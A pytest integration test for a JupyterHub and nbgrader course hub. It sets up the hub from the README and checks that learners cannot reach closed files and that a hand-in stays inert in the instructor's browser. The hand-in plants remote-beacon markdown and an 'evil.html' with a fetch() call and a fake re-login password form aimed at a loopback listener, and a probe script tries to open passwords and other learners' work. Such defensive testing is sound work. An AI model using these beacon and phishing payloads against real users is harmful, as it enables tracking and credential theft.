"""The class hub as the README sets it up, on this checkout (the course is the repository, as for a new instructor).

The hub commands are read from the README's own code block and run as written (as root; only the instructor's name
and the port are the test's), then: a learner fetches ch07-1, hands in a solved notebook with a beacon in a markdown
cell and an ``evil.html`` beside it, submits and fetches the graded feedback; a second learner's account tries to open
every file of the repository, the course and the hub that is not released to learners, and the first learner's work
(the learner walk); the instructor opens the hand-in in JupyterLab and its files in Chromium, with a listener that
must hear nothing. Afterwards the users are removed and the checkout is as it was (modes, files).
"""

import csv
import grp
import http.server
import json
import os
import pwd
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest

from class_submissions import CLASS
from conftest import BUILD, ROOT
from hongong.hub.reach import PRIVATE
from hub_class import Hub, free_port_block, modes_of, restore_modes

pytestmark = [pytest.mark.slow, pytest.mark.skipif(os.geteuid() != 0, reason="the hub makes system users (root)")]

SHOTS = BUILD / "screenshots"
LEARNER, OTHER, TEACHER = "hgr-ana", "hgr-ben", "hgr-teacher"
# What a learner's server needs of the checkout (hongong.hub.place.learner_paths); everything else must be closed.
RELEASED = [".venv", "hongong", "jupyter_learner", ".keras", ".hub/exchange", ".hub/learner-config"]
MADE_BY_THE_HUB = ["submitted", "autograded", "feedback", "grades", "downloaded", "attempts", "gradebook.db",
                   ".grading.lock", ".hub/state", ".hub/exchange", ".hub/learner-config", ".hub/instructor-config"]


def readme_hub_commands() -> list[str]:
    """The ``make`` lines of the README's hub section's first code block, comments dropped."""
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    section = text[text.index("## 강의에서 쓰기 (JupyterHub)"):]
    block = re.search(r"```bash\n(.*?)```", section, re.DOTALL).group(1)
    return [line.split("#")[0].strip() for line in block.splitlines() if line.strip().startswith("make ")]


class Listener:
    """An HTTP server on loopback that records every request it gets (a beacon's destination)."""

    def __init__(self):
        heard = self.heard = []

        class Record(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class ReadmeHub(Hub):
    """The hub of this checkout, reached with the test harness's learner commands (hub_class.Hub)."""

    def __init__(self, port: int):
        self.course, self.hub_dir, self.top, self.port = ROOT, ROOT / ".hub", None, port
        self.env = dict(os.environ, HONGONG_HUB_PORT=str(port))
        self.learners, self.instructor, self.tokens, self.process = [LEARNER, OTHER], TEACHER, {}, None
        self.log_path = ROOT / ".hub" / "state" / "hub.log"

    def make(self, line: str):
        """A README line as written (``make …``), with the test's instructor name and port."""
        words = line.replace("INSTRUCTOR=teacher", f"INSTRUCTOR={TEACHER}").split()
        done = subprocess.run([*words, f"HUB_PORT={self.port}", "--no-print-directory"], cwd=ROOT, capture_output=True,
                              text=True, timeout=900, env={k: v for k, v in os.environ.items() if k != "HONGONG_HUB_PORT"})
        return done


@pytest.fixture(scope="module")
def readme_hub():
    if (ROOT / "roster.csv").exists() or (ROOT / ".hub" / "state").exists():
        pytest.skip("this checkout has its own roster.csv or hub state: the README's hub runs on a checkout without")
    commands = readme_hub_commands()
    assert [c.split()[1] for c in commands] == ["hub-users", "hub-start", "hub-release"], commands
    made = [name for name in MADE_BY_THE_HUB if not (ROOT / name).exists()]
    kept = Path(tempfile.mkdtemp(prefix="hongong-gradebook-"))  # root's only (0700), outside the checkout
    if (ROOT / "gradebook.db").exists():
        shutil.copy2(ROOT / "gradebook.db", kept / "gradebook.db")
    before = modes_of([ROOT, *ROOT.iterdir(), *(p for name in (*PRIVATE, ".hub") if (ROOT / name).is_dir()
                                                 for p in (ROOT / name).rglob("*") if "node_modules" not in p.parts)])
    with open(ROOT / "roster.csv", "w", newline="") as handle:  # as an editor writes it: readable by everyone
        csv.writer(handle).writerows([["student_id", "first_name", "email"], [LEARNER, "아나", "ana@example.ac.kr"],
                                      [OTHER, "벤", "ben@example.ac.kr"]])
    hub = ReadmeHub(free_port_block())
    said = {}
    try:
        for line in commands:
            done = hub.make(line)
            said[line.split()[1]] = done
            assert done.returncode == 0, f"{line}:\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
        with open(ROOT / ".hub" / "state" / "passwords.csv", newline="") as handle:
            hub.passwords = {row["user"]: row["password"] for row in csv.DictReader(handle)}
        hub.said = said
        yield hub
    finally:
        hub.make("make hub-stop")
        for user in (LEARNER, OTHER, TEACHER):
            subprocess.run(["userdel", "--remove", user], capture_output=True)
        (ROOT / "roster.csv").unlink(missing_ok=True)
        for name in made:
            path = ROOT / name
            shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        if (kept / "gradebook.db").exists():
            shutil.copy2(kept / "gradebook.db", ROOT / "gradebook.db")
        shutil.rmtree(kept)
        restore_modes(before)


@pytest.fixture(scope="module")
def handed_in(readme_hub):
    """The learner's Submit and Fetch Feedback, with a beacon and an evil.html in the hand-in."""
    hub, listener = readme_hub, Listener()
    home = Path(pwd.getpwnam(LEARNER).pw_dir)
    hub.as_user(LEARNER, str(Path(sys.executable).parent / "nbgrader"), "fetch_assignment", "ch07-1")
    notebook = CLASS[("perfect", "ch07-1")].make()
    notebook.cells.append(nbformat.v4.new_markdown_cell(
        f"![]({listener.url}/markdown-image)\n\n<div style=\"background-image:url({listener.url}/background)\">BEACON-CELL</div>\n\n"
        f"<video poster=\"{listener.url}/poster\"></video>"))
    (home / "ch07-1" / "evil.html").write_text(
        "<!DOCTYPE html><meta charset=\"utf-8\"><title>evil</title><h1>Session expired: log in again</h1>"
        f"<script>document.title = 'PWNED'; fetch('{listener.url}/script'); new Image().src = '{listener.url}/image';</script>"
        f"<img src=\"{listener.url}/img-tag\"><form action=\"{listener.url}/form\"><input name=\"password\"></form>")
    account = pwd.getpwnam(LEARNER)
    os.chown(home / "ch07-1" / "evil.html", account.pw_uid, account.pw_gid)
    hub.hand_in(LEARNER, "ch07-1", notebook)
    history = hub.wait_graded(LEARNER, "ch07-1", 1)
    assert [e["state"] for e in history] == ["graded"], (history, hub.log_text()[-3000:])
    pages = hub.feedback(LEARNER, "ch07-1")
    return {"history": history, "pages": pages, "listener": listener}


def test_the_readmes_hub_commands_set_up_a_class_a_learner_submits_and_fetches_graded_feedback(readme_hub, handed_in):
    assert "초기 비밀번호" in readme_hub.said["hub-users"].stdout
    assert "roster.csv: 다른 사용자(학습자)가 읽을 수 없게 권한을 없앴습니다." in readme_hub.said["hub-users"].stdout
    assert f"http://127.0.0.1:{readme_hub.port}" in readme_hub.said["hub-start"].stdout
    assert [(e["attempt"], e["state"], e["status"]) for e in handed_in["history"]] == [(1, "graded", "graded")]
    page = next(iter(handed_in["pages"].values()))
    assert f"ch07-1 피드백 · {LEARNER}" in page and "통과" in page
    status = readme_hub.make("make hub-status")
    assert status.returncode == 0 and "허브: 실행 중" in status.stdout and "채점 서비스 응답 있음" in status.stdout
    code, page = readme_hub.api("/services/grader/", LEARNER)  # the learner is told what to press to see the feedback
    assert code == 200 and "새로 고침 버튼(Refresh assignments list)을 누르세요" in page, page


def test_the_hubs_state_is_roots_alone(readme_hub, handed_in):
    """JupyterHub's database, cookie secret, passwords and log: not even the instructors' group reads them."""
    state = ROOT / ".hub" / "state"
    found = {p.name: (p.stat().st_uid, p.stat().st_gid, p.stat().st_mode & 0o777) for p in [state, *state.iterdir()]}
    assert {"passwords.csv", "jupyterhub.sqlite", "jupyterhub_cookie_secret", "hub.log"} <= set(found), found
    assert found["state"] == (0, 0, 0o700) and found["passwords.csv"] == (0, 0, 0o600), found


LEARNER_WALK = r"""
import json, os, sys
asked = json.load(sys.stdin)
opened = []
for path in asked["closed"]:
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            os.listdir(path)
        else:
            with open(path, "rb") as handle:
                handle.read(1)
        opened.append(path)
    except OSError:
        pass
found = []
for top in asked["released"]:
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) > 2_000_000:
                    continue
                text = open(path, "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            found += [(path, secret) for secret in asked["secrets"] if secret in text]
readable = [p for p in asked["must_read"] if os.access(p, os.R_OK)]
print(json.dumps({"opened": opened, "found": found, "readable": readable}))
"""


def closed_paths() -> list[str]:
    """Every path of the checkout not released to learners, the other learner's home and hand-in in the exchange."""
    released = [ROOT / name for name in RELEASED]
    paths = []
    for folder, folders, files in os.walk(ROOT):
        here = Path(folder)
        folders[:] = [f for f in folders if here / f not in released and f != "node_modules"]
        paths += [str(here / name) for name in folders + files]
    submitter = Path(pwd.getpwnam(LEARNER).pw_dir)
    paths += [str(p) for p in [submitter, *submitter.rglob("*")]]
    inbound = ROOT / ".hub" / "exchange" / "hongong-ch7" / "inbound"
    paths += [str(inbound)] + [str(p) for p in inbound.rglob("*")]
    paths += [str(ROOT), str(ROOT / ".hub"), str(ROOT / ".hub" / "exchange" / "hongong-ch7" / "feedback")]  # no listing
    return paths


def solution_lines() -> list[str]:
    """Distinctive lines of the instructor's answers (inside BEGIN/END SOLUTION), to search the released files for."""
    lines = []
    for path in sorted((ROOT / "solutions").glob("*/*.ipynb")):
        inside = False
        for cell in nbformat.read(path, as_version=4).cells:
            for line in cell.source.splitlines():
                inside = ("BEGIN SOLUTION" in line) or (inside and "END SOLUTION" not in line)
                if inside and "SOLUTION" not in line and len(line.strip()) >= 24:
                    lines.append(line.strip())
    return sorted(set(lines))


def test_a_learners_account_opens_nothing_of_the_course_but_what_is_released_to_it(readme_hub, handed_in):
    """As the other learner's uid (their groups too): every closed path fails to open or list, released files hold
    none of the answers' lines, and what a learner needs is readable (so the walk itself works)."""
    closed = closed_paths()
    names = {Path(p).relative_to(ROOT).parts[0] for p in closed if Path(p).is_relative_to(ROOT) and Path(p) != ROOT}
    assert {".git", "tests", "solutions", "checks", "exercises", "roster.csv", "gradebook.db", "submitted"} <= names
    assert any(p.endswith(".hub/state/passwords.csv") for p in closed) and any("/inbound/hgr-ana+" in p for p in closed)
    secrets = solution_lines()
    assert len(secrets) >= 10
    outbound = ROOT / ".hub" / "exchange" / "hongong-ch7" / "outbound"
    must_read = [str(outbound / "ch07-1" / "ch07-1.ipynb"), *map(str, (ROOT / ".keras" / "datasets").rglob("*.gz")),
                 str(ROOT / "hongong" / "exercise" / "hints.py")]
    asked = {"closed": closed, "secrets": secrets, "must_read": must_read,
             "released": [str(ROOT / "hongong"), str(ROOT / "jupyter_learner"), str(ROOT / ".hub" / "learner-config"),
                          str(outbound)]}
    done = subprocess.run(["runuser", "-u", OTHER, "--", sys.executable, "-I", "-c", LEARNER_WALK], input=json.dumps(asked),
                          capture_output=True, text=True, timeout=600, cwd="/")
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    assert result["readable"] == must_read, "the learner cannot read what is released to them"
    assert result["opened"] == [], f"{len(result['opened'])} closed paths opened, e.g. {result['opened'][:15]}"
    assert result["found"] == []


def test_a_learners_hand_in_runs_nothing_and_loads_nothing_remote_in_the_instructors_browser(readme_hub, handed_in):
    """The instructor, logged in to the hub in Chromium, opens the raw submitted notebook in JupyterLab and the
    handed-in evil.html from submitted/, autograded/ and feedback/: the page's policy allows no remote load, the file
    runs no script, and the listener hears nothing."""
    from playwright.sync_api import sync_playwright

    from hongong.grading.lab_csp import FILE_POLICY, LAB_POLICY
    from hub_class import log_in

    listener, hub = handed_in["listener"], readme_hub
    files = [p for p in (ROOT / f"{where}/{LEARNER}/ch07-1/evil.html" for where in ("submitted", "autograded", "feedback"))
             if p.exists()]
    assert ROOT / f"submitted/{LEARNER}/ch07-1/evil.html" in files and len(files) >= 2, files
    SHOTS.mkdir(parents=True, exist_ok=True)
    policies, titles = {}, {}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = browser.new_context(viewport={"width": 1280, "height": 860}).new_page()
        log_in(page, hub, TEACHER)
        answer = page.goto(f"{hub.url}/user/{TEACHER}/lab/tree/submitted/{LEARNER}/ch07-1/ch07-1.ipynb")
        policies["lab"] = answer.headers.get("content-security-policy")
        try:
            page.locator(".jp-RenderedMarkdown", has_text="BEACON-CELL").wait_for(timeout=120_000)  # rendered
        finally:
            page.screenshot(path=str(SHOTS / "hub-instructor-submitted-notebook.png"))
        page.wait_for_timeout(2000)
        for path in files:
            answer = page.goto(f"{hub.url}/user/{TEACHER}/files/{path.relative_to(ROOT)}")
            policies[path] = answer.headers.get("content-security-policy")
            try:
                page.get_by_text("Session expired: log in again").wait_for(timeout=30_000)
            finally:
                page.screenshot(path=str(SHOTS / f"hub-instructor-{path.parts[-4]}-evil-html.png"))
            page.wait_for_timeout(1000)
            titles[path] = page.title()
        answer = page.goto(f"{hub.url}/services/grader/")  # the course's own service asks no "Authorize access"
        page.get_by_text(f"{TEACHER}의 제출 기록").wait_for(timeout=30_000)
        browser.close()
    time.sleep(1)
    assert listener.heard == [], listener.heard
    assert set(titles.values()) == {"evil"}, titles  # no script ran
    assert policies == {"lab": LAB_POLICY, **{path: FILE_POLICY for path in files}}


def test_a_rule_changed_in_the_course_config_applies_to_the_next_submission_without_a_restart(readme_hub, handed_in):
    config = ROOT / "nbgrader_config.py"
    before = config.read_text(encoding="utf-8")
    try:
        config.write_text(before + "\nc.CourseRules.min_seconds_between = 3600\n", encoding="utf-8")
        time.sleep(1.1)  # nbgrader names a submission by the second
        readme_hub.hand_in(LEARNER, "ch07-1", CLASS[("perfect", "ch07-1")].make())
        history = readme_hub.wait_graded(LEARNER, "ch07-1", 2)
    finally:
        config.write_text(before, encoding="utf-8")
    assert [(e["state"], e.get("reason")) for e in history] == [("graded", None), ("refused", "too-soon")]


def test_make_hub_stop_stops_the_hub_and_status_says_so(readme_hub, handed_in):
    stopped = readme_hub.make("make hub-stop")
    assert stopped.returncode == 0 and "허브를 멈췄습니다" in stopped.stdout
    status = readme_hub.make("make hub-status")
    assert status.returncode != 0 and "실행 중 아님" in status.stdout
    assert not readme_hub.service_up()
    assert grp.getgrnam("hongong-instructors")  # the groups stay for the next class
